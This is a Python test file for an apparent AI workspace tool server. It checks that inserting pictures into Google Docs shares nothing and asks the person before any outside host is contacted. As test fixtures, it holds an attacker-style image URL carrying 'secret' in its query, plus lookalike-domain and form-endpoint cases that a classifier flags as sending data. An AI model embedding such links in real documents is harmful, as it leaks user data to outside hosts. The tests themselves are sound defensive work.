"""Pictures from disk, Drive and the web: nothing is shared for them, and nobody else is told unasked."""

from dataclasses import replace

import pytest

from tests.conftest import ME, Model
from tests.services.docs.written import made, read, shown
from workspace_mcp.demo import samples
from workspace_mcp.demo.docs.api import FakeDocs
from workspace_mcp.demo.drive.store import Drive
from workspace_mcp.demo.world import World
from workspace_mcp.formats.docs.picture import Picture
from workspace_mcp.policy.effects import Reach, Wire, reach
from workspace_mcp.policy.rules import Ask, Policy
from workspace_mcp.services.docs.format import deleting
from workspace_mcp.settings import Settings

PNG = samples.png("sales by month")
WEB = "https://evil.example/?q=secret"
ASKING = pytest.mark.parametrize("settings", [Policy(ask=Ask.ALL)], indirect=True)
CLOSED = pytest.mark.parametrize("settings", [Policy(ask=Ask.NEVER, no_exfil=True)], indirect=True)
WAYS = [
    ("docs_create", {"title": "T", "markdown": f"a ![]({WEB})"}),
    ("docs_edit", {"doc": "1plan", "edits": [{"new": f"a\n\n![]({WEB})"}]}),
    ("docs_format", {"doc": "1plan", "actions": [{"do": "image", "value": WEB}]}),
    ("docs_format", {"doc": "1plan", "actions": [{"do": "header", "value": f"![]({WEB})"}]}),
    ("docs_format", {"doc": "1plan", "actions": [{"do": "add_tab", "value": "N", "text": f"![]({WEB})"}]}),
]  # fmt: skip


@pytest.fixture
def settings(settings: Settings, request: pytest.FixtureRequest) -> Settings:
    (settings.file_folders[0] / "chart.png").write_bytes(PNG)
    policy: Policy = getattr(request, "param", Policy(ask=Ask.NEVER))
    return replace(settings, policy=policy)


def scratch(world: World) -> list[tuple[str, bool]]:
    return [
        (f.name[:7], f.trashed is not None)
        for f in world.files.files.values()
        if "Scratch" in f.name
    ]


def written(world: World) -> list[str]:
    return [path for method, path, _ in world.requests if method != "GET"]


@pytest.mark.parametrize("name", ["chart.png", "{folder}/chart.png", "file://{folder}/chart.png"])
async def test_a_local_picture_is_put_in_and_never_shared(
    model: Model, docs: FakeDocs, world: World, settings: Settings, name: str
) -> None:
    doc = made(docs, "# One\n\ntext")
    path = name.format(folder=settings.file_folders[0])

    await model.call(
        "docs_format", doc="1plan", actions=[{"do": "image", "text": "text", "value": path}]
    )

    (key,) = read(doc).tabs[0].images
    assert shown(doc) == f"# One\n\ntext![]({key})"
    assert scratch(world) == [("Scratch", True)]
    assert not [one for one in world.requests if "permissions" in one[1]]
    assert all({one.who for one in f.permissions} <= {ME} for f in world.files.files.values())


async def test_a_picture_has_its_own_size_and_no_more_than_the_page(
    model: Model, docs: FakeDocs
) -> None:
    doc = made(docs, "text")
    size = Picture.of(PNG)

    await model.call("docs_edit", doc="1plan", edits=[{"new": "![](chart.png)"}])
    await model.call(
        "docs_format",
        doc="1plan",
        actions=[{"do": "image", "value": "chart.png", "css": "width:90"}],
    )

    sizes = [
        one["inlineObjectProperties"]["embeddedObject"]["size"]
        for one in read(doc).tabs[0].images.values()
    ]
    assert sizes[0]["width"]["magnitude"] == min(size.width * 0.75, 468)
    assert sizes[1]["width"]["magnitude"] == 90


@pytest.mark.parametrize(
    "value", ["drive:1pic", "https://drive.google.com/file/d/1pic/view?usp=sharing"]
)
async def test_a_private_picture_in_drive_is_put_in(
    model: Model, docs: FakeDocs, drive: Drive, world: World, value: str
) -> None:
    doc = made(docs, "text")
    file = drive.add("chart.png", "image/png", ME, id="1pic")
    world.files.write(file, PNG, "image/png", ME)

    await model.call("docs_edit", doc="1plan", edits=[{"new": f"![]({value})"}])

    assert len(read(doc).tabs[0].images) == 1
    assert scratch(world) == [("Scratch", True)]


async def test_many_pictures_take_one_scratch_document(
    model: Model, docs: FakeDocs, world: World, settings: Settings
) -> None:
    (settings.file_folders[0] / "two.png").write_bytes(samples.png("two"))

    await model.call(
        "docs_create",
        title="T",
        markdown="![](chart.png)\n\n| a |\n| --- |\n| ![](two.png) |\n\n![](chart.png)",
    )

    doc = next(one for one in docs.documents.values() if one.title == "T")
    assert len(read(doc).tabs[0].images) == 3
    assert scratch(world) == [("Scratch", True)]


async def test_a_section_with_a_picture_can_be_written_anew(model: Model, docs: FakeDocs) -> None:
    doc = made(docs, "# One\n\nold")
    said = await model.call("docs_edit", doc="1plan", edits=[{"new": "![](chart.png)"}])
    text = shown(doc)
    assert "+ (no text: a picture, a line or a break)" in said
    key = next(iter(read(doc).tabs[0].images))
    assert f"![]({key})" in text

    await model.call(
        "docs_edit", doc="1plan", edits=[{"section": "One", "new": f"new\n\n![]({key})"}]
    )

    assert shown(doc).startswith("# One\n\nnew\n\n![](kix.")


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("notes.png", b"no picture", "That file is no picture that Docs takes: PNG, JPEG or GIF."),
        ("huge.png", PNG[:16] + b"\x00\x00\x40\x00" * 2 + PNG[24:], "16384 x 16384 pixels"),
        ("cut.jpg", b"\xff\xd8\xff\xe0\x00", "That file is no picture"),
    ],
)
async def test_what_is_no_picture_changes_nothing(
    model: Model, docs: FakeDocs, world: World, settings: Settings, name: str, data: bytes, why: str
) -> None:
    made(docs, "text")
    (settings.file_folders[0] / name).write_bytes(data)

    failure = await model.call_failing("docs_edit", doc="1plan", edits=[{"new": f"![]({name})"}])

    assert why in failure
    assert written(world) == []


async def test_when_google_does_not_fetch_it_the_way_out_is_said(
    model: Model, docs: FakeDocs, world: World
) -> None:
    doc = made(docs, "text")
    gone = "https://lh3.googleusercontent.com/docsz/gone"

    failure = await model.call_failing("docs_edit", doc="1plan", edits=[{"new": f"![]({gone})"}])

    assert failure.startswith("Google could not fetch a picture; the batch was not written.")
    assert shown(doc) == "text"


@ASKING
@pytest.mark.parametrize(("tool", "arguments"), WAYS)
async def test_the_person_is_asked_before_another_host_is_told(
    model: Model, docs: FakeDocs, world: World, tool: str, arguments: dict[str, object]
) -> None:
    made(docs, "text")

    failure = await model.call_failing(tool, **arguments)

    assert failure.startswith("APPROVAL_REQUIRED code=")
    assert "Let Google fetch 1 picture from other sites" in failure
    assert written(world) == []


@CLOSED
@pytest.mark.parametrize(("tool", "arguments"), WAYS)
async def test_no_exfil_refuses_pictures_of_other_hosts(
    model: Model, docs: FakeDocs, world: World, tool: str, arguments: dict[str, object]
) -> None:
    made(docs, "text")

    assert "--no-exfil" in await model.call_failing(tool, **arguments)
    assert written(world) == []


@pytest.mark.parametrize(("tool", "arguments"), WAYS)
async def test_with_their_word_the_picture_is_put_in(
    model: Model, docs: FakeDocs, tool: str, arguments: dict[str, object]
) -> None:
    made(docs, "text")

    await model.call(tool, **arguments)

    assert any(tab.objects for doc in docs.documents.values() for tab in doc.tabs.values())


@CLOSED
async def test_ones_own_picture_is_put_in_under_no_exfil(model: Model, docs: FakeDocs) -> None:
    doc = made(docs, "text")

    await model.call("docs_edit", doc="1plan", edits=[{"new": "![](chart.png)"}])

    assert len(read(doc).tabs[0].images) == 1


async def test_the_scratch_document_is_nothing_to_take_back(model: Model, docs: FakeDocs) -> None:
    made(docs, "text")

    said = await model.call("docs_edit", doc="1plan", edits=[{"new": "![](chart.png)"}])

    assert "Undo" not in said
    assert "Scratch" not in await model.call("workspace_history")


@ASKING
async def test_deleting_a_tab_asks_the_person(model: Model, docs: FakeDocs, world: World) -> None:
    doc = made(docs, "text")
    await model.call(
        "docs_format", doc="1plan", actions=[{"do": "add_tab", "value": "Notes", "text": "long"}]
    )
    before = len(written(world))

    failure = await model.call_failing(
        "docs_format", doc="1plan", tab="Notes", actions=[{"do": "delete_tab"}]
    )

    assert failure.startswith("APPROVAL_REQUIRED code=")
    assert "Delete a tab of a document" in failure
    assert deleting(read(doc), read(doc).tabs[1]).lines == ('"Notes" of "Plan": 5 characters',)
    assert len(written(world)) == before
    assert len(doc.tabs) == 2


@pytest.mark.parametrize(
    ("requests", "found"),
    [
        ('[{"insertText": {}}]', Reach.WRITES),
        ('[{"insertText": {}}, {"deleteTab": {"tabId": "t"}}]', Reach.DELETES),
        ('[{"insertInlineImage": {"uri": "https://x.example/"}}]', Reach.SENDS),
        ('[{"replaceImage": {"uri": "http://lh3.googleusercontent.com/a"}}]', Reach.SENDS),
        ('[{"insertInlineImage": {"uri": "https://lh3.googleusercontent.com.evil.example/"}}]', Reach.SENDS),
        ('[{"insertInlineImage": {"uri": "https://script.googleusercontent.com/x"}}]', Reach.SENDS),
        ('[{"insertInlineImage": {"uri": "https://docs.google.com/forms/d/e/1/formResponse"}}]', Reach.SENDS),
        ('[{"insertInlineImage": {"uri": "https://lh7-rt.googleusercontent.com/docsz/A?key=B"}}]', Reach.WRITES),
        ("[]", Reach.WRITES),
        ("3", Reach.WRITES),
    ],
)  # fmt: skip
def test_a_batch_reaches_as_far_as_its_worst_request(requests: str, found: Reach) -> None:
    body = f'{{"requests": {requests}}}'.encode()

    assert (
        reach(Wire("POST", "docs.googleapis.com", "/v1/documents/1:batchUpdate", {}, body)) is found
    )


def test_the_size_of_a_jpeg_and_a_gif_is_read() -> None:
    jpeg = b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc2\x00\x0b\x08\x00\x10\x00\x20" + b"\0" * 9
    gif = b"GIF89a\x20\x00\x10\x00"

    assert [(one.kind, one.width, one.height) for one in map(Picture.of, (jpeg, gif))] == [
        ("jpeg", 32, 16), ("gif", 32, 16),
    ]  # fmt: skip


def test_a_wide_picture_is_scaled_to_the_text() -> None:
    assert Picture(b"", "png", 1920, 1080).points == (468.0, 263.25)
    assert Picture(b"", "png", 100, 50).points == (75.0, 37.5)
